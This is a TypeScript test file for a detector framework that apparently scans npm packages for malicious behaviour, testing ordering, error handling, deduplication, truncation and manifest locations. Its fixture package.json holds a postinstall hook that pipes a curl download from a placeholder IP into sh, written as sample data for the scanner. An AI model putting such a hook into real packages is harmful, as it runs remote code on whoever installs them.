import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { subjectOf } from "../test/sample.ts";
import { detect, detectors, defineDetector } from "./index.ts";
import type { Detector, Sighting } from "./index.ts";

const subject = subjectOf({
  "package.json":
    '{"name":"sample","version":"1.0.1","scripts":{"postinstall":"curl -s http://203.0.113.9/s | sh"}}',
});

function detectorOf(id: string, sightings: () => Iterable<Sighting>): Detector {
  return defineDetector({
    id,
    title: "A test",
    family: "capability",
    strength: "supporting",
    technique: undefined,
    detect: sightings,
  });
}

describe("detect", () => {
  test("says the same in every order of detectors", () => {
    const expected = detect(subject, detectors);

    fc.assert(
      fc.property(fc.shuffledSubarray([...detectors], { minLength: detectors.length }), (shuffled) => {
        expect(detect(subject, shuffled)).toEqual(expected);
      }),
      { numRuns: 20 },
    );
    expect(expected.failures).toEqual([]);
  });

  test("names a detector that throws, and keeps what it and others said", () => {
    const broken = detectorOf("broken", function* sight() {
      yield { message: "One thing." };
      throw new TypeError("no such thing");
    });
    const whole = detectorOf("whole", () => [{ message: "Another thing." }]);

    const { findings, failures } = detect(subject, [broken, whole]);

    expect(findings.map(({ message }) => message)).toEqual(["One thing.", "Another thing."]);
    expect(failures).toEqual(["The detector broken could not finish: no such thing"]);
  });

  test("keeps the strongest of what one detector says, and counts the rest", () => {
    const talkative = detectorOf("talkative", function* sight() {
      for (let index = 0; index < 50; index += 1) {
        yield { message: `Thing ${String(index)}.`, strength: index === 49 ? "strong" : "supporting" };
      }
    });

    const { findings } = detect(subject, [talkative]);

    expect(findings).toHaveLength(6);
    expect(findings[0]).toMatchObject({ message: "Thing 49.", strength: "strong" });
    expect(findings.at(-1)?.message).toContain("(44 more of this kind are left out.)");
  });

  test("stops a detector that never ends", () => {
    const endless = detectorOf("endless", function* sight() {
      for (let index = 0; ; index += 1) yield { message: `Thing ${String(index)}.` };
    });

    expect(detect(subject, [endless]).findings).toHaveLength(6);
  });

  test("says one thing once", () => {
    const stammering = detectorOf("stammering", () => [{ message: "Thing." }, { message: "Thing." }]);

    expect(detect(subject, [stammering]).findings).toHaveLength(1);
  });

  test.each([
    ["scripts.postinstall", 1, 47],
    ["scripts.install", 1, 36],
    ["dependencies.nosuch", 1, 1],
  ])("finds where %s stands in the manifest", (member, line, column) => {
    const pointing = detectorOf("pointing", () => [{ message: "Thing.", member }]);

    const [found] = detect(subject, [pointing]).findings;

    expect(found?.location).toEqual({ file: "package.json", line, column });
  });

  test("cuts long foreign texts", () => {
    const long = detectorOf("long", () => [{ message: "m".repeat(5_000), excerpt: "e".repeat(5_000) }]);

    const [finding] = detect(subject, [long]).findings;

    expect(finding?.message).toHaveLength(600);
    expect(finding?.excerpt).toHaveLength(240);
  });
});
